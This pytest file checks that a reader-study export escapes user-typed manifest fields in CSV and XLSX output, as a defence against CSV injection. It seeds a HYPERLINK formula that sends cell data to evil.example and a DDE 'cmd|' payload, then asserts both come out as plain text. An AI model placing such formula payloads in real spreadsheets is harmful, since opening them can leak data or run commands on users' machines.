"""Text that users typed (a manifest's institution, scanner vendor) reaches the export as text,
never as a spreadsheet formula (OWASP "CSV Injection"): the CSV and XLSX writers go through
readerstudy.core.spreadsheet."""

from __future__ import annotations

import openpyxl
import pandas as pd
import pytest

from readerstudy.studies.models import Case
from tests.analysis.conftest import Counts, add_model, add_reads, calls_for, make_cases
from tests.analysis.test_export_thin_data import media_in_tmp, out, run_export, study  # noqa: F401

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_formula_typed_in_the_manifest_is_text_in_every_csv_and_workbook(make_reader, out):  # noqa: F811
    ct = study("formula")
    cases = make_cases(ct, malignant=6, benign=6)
    Case.objects.filter(study=ct).update(institution=FORMULA)
    Case.objects.filter(pk=cases[0].pk).update(scanner_vendor="+1+cmd|' /C calc'!A0")
    for name in ("resident_a", "attending_b"):
        add_reads(ct, make_reader(name, "resident", 3), cases, calls_for(Counts(tp=5, fn=1, tn=5, fp=1)))
    add_model(ct, cases, [0.9] * 6 + [0.1] * 6)

    run_export(ct, out)

    reads = pd.read_csv(out / "reads.csv")
    assert set(reads["institution"]) == {"'" + FORMULA}
    assert "'+1+cmd|' /C calc'!A0" in set(reads["scanner_vendor"])
    csv_cells = [cell for path in out.rglob("*.csv")
                 for cell in pd.read_csv(path, dtype=str).fillna("").to_numpy().ravel()]
    assert csv_cells and not [cell for cell in csv_cells if cell.startswith(("=", "+", "@"))]
    workbooks = list(out.rglob("*.xlsx"))
    assert workbooks
    for path in workbooks:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name}:{sheet.title}!{cell.coordinate}"
